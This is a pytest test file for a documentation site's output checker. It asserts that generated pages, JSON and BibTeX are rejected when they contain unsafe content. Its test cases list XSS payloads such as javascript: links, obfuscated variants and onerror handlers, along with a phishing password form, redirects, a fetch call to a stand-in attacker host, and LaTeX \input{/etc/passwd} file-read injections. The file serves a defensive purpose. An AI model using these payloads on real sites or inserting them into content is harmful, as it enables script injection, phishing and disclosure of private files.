"""Check what we emit: the page check the build runs on every page, and a build it must stop."""

from __future__ import annotations

import json
import logging
import re
import shutil
from pathlib import Path

import pytest
from mkdocs.commands.build import build
from mkdocs.config import load_config

from conftest import REAL, VALID
from fieldguide import htmlcheck, schema

ROOT = REAL.parent
ARTICLE = '<html><head><script src="/assets/x.js"></script></head><body><nav><a href="/">Home</a></nav>' \
          '<article class="md-content__inner md-typeset">{}</article><footer></footer></body></html>'


@pytest.mark.parametrize("html_text", [
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;avascript&#58;alert(1)">x</a>',
    '<a href="java&#x0A;script:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href=" &#1;javascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<form action="javascript:alert(1)"></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<img src="javascript:alert(1)">',
    '<p onclick="">x</p>',
    "<p onclick>x</p>",
    '<svg><a xlink:href="javascript:alert(1)">x</a></svg>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "<script>alert(1)</script>",
    '<p style="background:url(https://evil.example/)">x</p>',
    "</article><script>alert(1)</script><article>",  # closing the content early does not escape the check
    # Active content in catalog-derived HTML (issue 19): a refresh, a phishing form, images, frames.
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<form action="https://evil.example/"><input type="password" name="p"></form>',
    '<form><input type="text" name="q"><button>Go</button></form>',  # no action: still no widget of ours
    '<img src="https://evil.example/pixel.png">', '<img src="pixel.png">', '<picture></picture>',
    '<video src="v.mp4"></video>', '<audio src="a.mp3"></audio>', '<iframe src="https://evil.example/"></iframe>',
    '<frame src="x">', '<object data="x.swf"></object>', '<embed src="x.swf">', '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">', "<style>p{color:red}</style>",
    '<input type="checkbox" name="x">',  # not Markdown's disabled task-list box
    '<select><option>1</option></select>', "<textarea></textarea>", "<math></math>", "<svg></svg>",
    '<pre class="fg-diagram"><code>flowchart LR</code></pre>',  # a diagram outside the page's own figure
])
def test_unsafe_markup_in_the_content_is_reported(html_text: str) -> None:
    assert htmlcheck.check_page(ARTICLE.format(html_text)), html_text


HEAD = ('<html><head><meta charset="utf-8"><meta name="description" content="{description}"><title>{title}</title>'
        '{head}</head><body><nav>{nav}</nav><article class="md-content__inner md-typeset"><p>x</p></article>'
        '</body></html>')
PAGE = {"description": "Short.", "title": "A page - Guide", "head": "", "nav": ""}


@pytest.mark.parametrize(("part", "html_text"), [
    ("head", '<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
    ("head", '<meta http-equiv="Set-Cookie" content="a=b">'),
    ("head", '<base href="https://evil.example/">'),
    ("head", '<link rel="stylesheet" href="https://evil.example/x.css">'),
    ("head", '<link rel="preload" href="//evil.example/x.js" as="script">'),
    ("head", '<script src="https://evil.example/x.js"></script>'),
    ("head", "<script>fetch('https://evil.example/')</script>"),  # not one of the theme's own inline scripts
    ("head", "<style>@import url(https://evil.example/x.css);</style>"),
    ("nav", '<a href="javascript:alert(1)">x</a>'), ("nav", '<svg onload="alert(1)"></svg>'),
    ("nav", '<img src="https://evil.example/pixel.png">'), ("nav", '<iframe src="/x"></iframe>'),
    ("nav", '<form action="https://evil.example/"><input name="q"></form>'),
    ("nav", '<input type="password">'), ("nav", '<meta name="x" content="y">'),
    ("nav", '<span style="background: url(https://evil.example/x.png)">x</span>'),
    ("description", 'x" http-equiv="refresh'),  # a quote that closed the attribute: a redirect
])
def test_the_whole_page_is_checked_head_and_theme_included(part: str, html_text: str) -> None:
    """Outside the content (the head, the navigation Material fills with titles) the rules of every
    page hold: nothing that redirects, asks another origin, runs or posts elsewhere."""
    page = HEAD.format(**{**PAGE, part: html_text})
    problems = htmlcheck.check_page(page, site_url="https://guide.example.org/", theme_scripts=())
    assert problems, (part, html_text)


def test_a_description_or_title_that_escaped_its_place_is_named() -> None:
    """The hook knows what it put into the head; anything else there is reported, even if harmless."""
    page = HEAD.format(**{**PAGE, "description": 'x" data-x="y', "title": "Other - Guide"})
    problems = htmlcheck.check_page(page, expected=htmlcheck.Expected(title="A page", description='x" data-x="y'))
    assert any("meta name=\"description\"" in p and "escaped its attribute" in p for p in problems), problems
    assert any("<title>" in p and "escaped its element" in p for p in problems), problems
    fine = HEAD.format(**{**PAGE, "description": "x &quot;y&quot; &lt;b&gt;"})
    assert htmlcheck.check_page(fine, expected=htmlcheck.Expected(title="A page", description='x "y" <b>')) == []


def test_the_themes_own_inline_scripts_pass_and_others_do_not() -> None:
    """Material's inline scripts, read from its templates (paths such as `../..` vary by page)."""
    patterns = htmlcheck.material_script_patterns()
    assert patterns, "Material is installed"
    import material

    template = (Path(material.__file__).parent / "templates" / "partials" / "javascripts" / "base.html").read_text()
    scope = re.sub(r"\{\{.*?\}\}", "../..", template[template.index("<script>"):template.index("</script>") + 9])
    ok = HEAD.format(**{**PAGE, "head": scope})
    assert htmlcheck.check_page(ok, theme_scripts=patterns) == []
    planted = HEAD.format(**{**PAGE, "head": scope.replace('"../.."', '"../..",alert(1)')})
    assert planted != ok
    assert htmlcheck.check_page(planted, theme_scripts=patterns)


@pytest.mark.parametrize(("name", "data"), [
    ("planner/data.json", {"challenges": {"x": {"url": "javascript:alert(1)"}}}),
    ("planner/data.json", {"challenges": {"x": {"url": "https://evil.example/x/"}}}),  # not a page of the site
    ("planner/data.json", {"challenges": {"x": {"title": "<img src=x onerror=alert(1)>"}}}),
    ("planner/data.json", {"brief": {"sections": {"x": {"body": "`\\input{/etc/passwd}`{=latex}"}}}}),
    ("planner/data.json", {"brief": {"sections": {"x": {"body": "\\input{/etc/passwd}"}}}}),
    ("planner/data.json", {"brief": {"references": {"x": {"bibtex": "@misc{x, title={\\input{a}}}"}}}}),
    ("citations/data.json", {"pages": {"p": {"url": "data:text/html,x"}}}),
    # the chunks split out of them (fieldguide.pagedata) are held to the same rules
    ("planner/challenges-0123456789ab.json", {"x": {"url": "https://evil.example/x/"}}),
    ("planner/sections-0123456789ab.json", {"x": {"body": "\\input{/etc/passwd}"}}),
    ("planner/references-0123456789ab.json", {"x": {"bibtex": "@misc{x, title={\\input{a}}}"}}),
    ("citations/pages-0123456789ab.json", {"p": {"url": "https://evil.example/p/"}}),
    ("search/index.json", {"urls": {"challenge": "javascript:{id}"}}),
    ("search/index.json", {"urls": {"challenge": "https://evil.example/{id}/"}}),
    ("downloads/catalog.json", {"mitigations": [{"url": "vbscript:x"}]}),
])
def test_json_the_page_scripts_read_is_checked(name: str, data: dict) -> None:
    assert htmlcheck.check_json(name, json.dumps(data), "https://guide.example.org/"), (name, data)


@pytest.mark.parametrize("text", ['{"a": 1, "a": 2}', '{"a": NaN}', "{torn"])
def test_json_that_readers_would_disagree_on_is_refused(text: str) -> None:
    assert htmlcheck.check_json("planner/data.json", text)


def test_json_the_site_writes_passes() -> None:
    good = {"site_url": "https://guide.example.org/", "challenges": {"x": {
        "url": "https://guide.example.org/challenges/x/", "title": "A <= b & c", "summary": "\\textbackslash"}},
        "urls": {"challenge": "challenges/{id}/"}}
    for name in ("planner/data.json", "search/index.json", "downloads/catalog.json"):
        assert htmlcheck.check_json(name, json.dumps(good), "https://guide.example.org/") == [], name


@pytest.mark.parametrize(("text", "ok"), [
    ('@misc{k,\n    title = "A \\textbackslash{}input \\$x\\$ \\textasciitilde"\n}\n', True),
    ('@misc{k,\n    title = "A \\input{/etc/passwd}"\n}\n', False),
    ('@misc{k,\n    title = "unclosed {brace"\n}\n', False),
])
def test_bibtex_we_write_parses_and_holds_no_tex_command(text: str, ok: bool) -> None:
    assert (htmlcheck.check_bibtex(text) == []) is ok


def test_a_built_site_folder_can_be_checked_on_its_own(tmp_path: Path) -> None:
    """`check_site` runs on any built site (another builder's output, later through `fieldguide
    postbuild`): pages by their kind, JSON, BibTeX, the sitemap; hand-written pages without the
    content rules; third-party folders skipped."""
    site = tmp_path / "site"
    (site / "challenges" / "x").mkdir(parents=True)
    (site / "assets" / "vendor").mkdir(parents=True)
    (site / "challenges" / "x" / "index.html").write_text(ARTICLE.format('<img src="a.png">'), encoding="utf-8")
    (site / "index.html").write_text(ARTICLE.format('<svg role="img"></svg>'), encoding="utf-8")
    (site / "assets" / "vendor" / "x.json").write_text('{"url": "javascript:x"}', encoding="utf-8")
    (site / "planner").mkdir()
    (site / "planner" / "data.json").write_text('{"url": "javascript:x"}', encoding="utf-8")
    (site / "sitemap.xml").write_text("<urlset><url><loc>https://evil.example/</loc></url></urlset>", encoding="utf-8")
    problems = htmlcheck.check_site(site, "https://guide.example.org/", hand_written=["index.html"],
                                    skip=["assets/vendor"])
    assert sorted(p.split(":")[0] for p in problems) == ["challenges/x/index.html", "planner/data.json",
                                                          "sitemap.xml"]


def test_the_search_folder_holds_the_index_parts_and_nothing_else(tmp_path: Path) -> None:
    """A site's `search/` folder: a stray file (a page dropped there, a part left from another build)
    and an altered part are reported by the whole-site check, as every builder's output is checked."""
    from fieldguide import graph, load, search

    cat = load.load(VALID)
    site = tmp_path / "site"
    search.write_layout(search.build_index(cat, graph.build(cat)), site)
    assert htmlcheck.check_site(site, "https://guide.example.org/") == []
    (site / "search" / "notes.txt").write_text("hello", encoding="utf-8")
    assert htmlcheck.check_site(site, "https://guide.example.org/") == [
        "search/notes.txt: not part of the search index (search/index.json names no such file)"]
    (site / "search" / "notes.txt").unlink()
    part = next((site / "search").glob("d-*.json"))
    part.write_text(part.read_text(encoding="utf-8").replace('"first":', '"first": ', 1), encoding="utf-8")
    assert htmlcheck.check_site(site, "https://guide.example.org/") == [
        "search/: d-*.json: the parts do not match their names (altered, or from another build)"]


@pytest.mark.parametrize("html_text", [
    '<a href="https://example.org/?a=1&amp;b=2">x</a> <a href="mailto:a@example.org">m</a>',
    '<a href="../stages/data-management/#data-collection">x</a> <a href="#top">t</a>',
    '<a href="javascript">a relative page named javascript</a>',
    '<table><tr><td style="text-align: left;">1</td></tr></table>',
    "<p>javascript:alert(1) as text</p>",
])
def test_safe_markup_is_not_reported(html_text: str) -> None:
    assert htmlcheck.check_page(ARTICLE.format(html_text)) == []


def test_duplicate_ids_on_a_page_are_reported() -> None:
    problems = htmlcheck.check_page(ARTICLE.format('<h2 id="checklist">A</h2><h3 id="checklist">B</h3>'))
    assert problems == ["line 1: id 'checklist' is used twice on the page"]


def test_the_theme_outside_the_content_may_use_its_own_scripts() -> None:
    assert htmlcheck.check_page(ARTICLE.format("<p>text</p>")) == []


def test_hand_written_pages_may_hold_figures_but_never_script_links() -> None:
    """content/ pages are reviewed like code (the home page draws its workflow as inline SVG): their
    elements are trusted, their links and handlers are not."""
    figure = '<svg role="img"><title>Workflow</title><path d="M0 0h10"/></svg>'
    assert htmlcheck.check_page(ARTICLE.format(figure), content_rules=False) == []
    assert htmlcheck.check_page(ARTICLE.format(figure)), "a generated page may not carry an SVG"
    for unsafe in ('<a href="javascript:alert(1)">x</a>', '<svg onload="alert(1)"></svg>'):
        assert htmlcheck.check_page(ARTICLE.format(unsafe), content_rules=False), unsafe


def _project(tmp_path: Path, description: str) -> Path:
    """A site project with the real configuration and the small valid catalog (see test_browser_hostile)."""
    project = tmp_path / "project"
    project.mkdir()
    (project / "scripts").symlink_to(ROOT / "scripts")
    (project / "content").mkdir()
    (project / "content" / "assets").symlink_to(ROOT / "content" / "assets")
    (project / "content" / "index.md").write_text("# Planted\n\n[All challenges](challenges/index.md)\n")
    (project / "mkdocs.yml").write_text(f"INHERIT: {ROOT / 'mkdocs.yml'}\nnav:\n  - index.md\n")
    shutil.copytree(VALID, project / "catalog")
    path = project / "catalog" / "challenges" / "data-discovery.yaml"
    text = path.read_text(encoding="utf-8")
    start = text.index("description: |")
    end = text.index("signals:")
    block = "".join(f"  {line}\n" for line in description.splitlines())
    path.write_text(text[:start] + "description: |\n" + block + text[end:], encoding="utf-8")
    return project


def _build(project: Path, site: Path) -> None:
    build(load_config(str(project / "mkdocs.yml"), site_dir=str(site)))


def test_a_script_link_past_the_source_check_fails_the_build(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                              caplog: pytest.LogCaptureFixture) -> None:
    project = _project(tmp_path, "Read [the note][r7].\n\n> [r7]: javascript:alert(1)")
    monkeypatch.setattr(schema, "_safe_prose", lambda value: value)  # as if `check` had missed it
    site = tmp_path / "site"
    with caplog.at_level(logging.ERROR), pytest.raises(Exception):  # noqa: B017 - mkdocs aborts with its own type
        _build(project, site)
    message = "\n".join(r.getMessage() for r in caplog.records)
    assert "unsafe output in challenges/data-discovery.md" in message
    assert "<a> attribute href = 'javascript:alert(1)'" in message
    assert "catalog/challenges/data-discovery.yaml:6: data-discovery: description" in message, "names file and field"
    assert not (site / "challenges" / "data-discovery" / "index.html").exists(), "the bad page is never written"


def test_the_same_project_builds_with_a_safe_link(tmp_path: Path) -> None:
    project = _project(tmp_path, "Read [the note][r7].\n\n> [r7]: https://example.org/note")
    _build(project, tmp_path / "site")
    page = (tmp_path / "site" / "challenges" / "data-discovery" / "index.html").read_text(encoding="utf-8")
    assert 'href="https://example.org/note"' in page


def test_a_site_folder_with_a_link_to_a_device_is_reported_not_read(tmp_path: Path) -> None:
    site = tmp_path / "site"
    site.mkdir()
    (site / "index.html").symlink_to("/dev/zero")
    (site / "data.json").symlink_to(tmp_path / "outside.json")
    (tmp_path / "outside.json").write_text("{}", encoding="utf-8")
    problems = htmlcheck.check_site(site)
    assert [p.split(": ", 1)[0] for p in problems] == ["data.json", "index.html"], problems
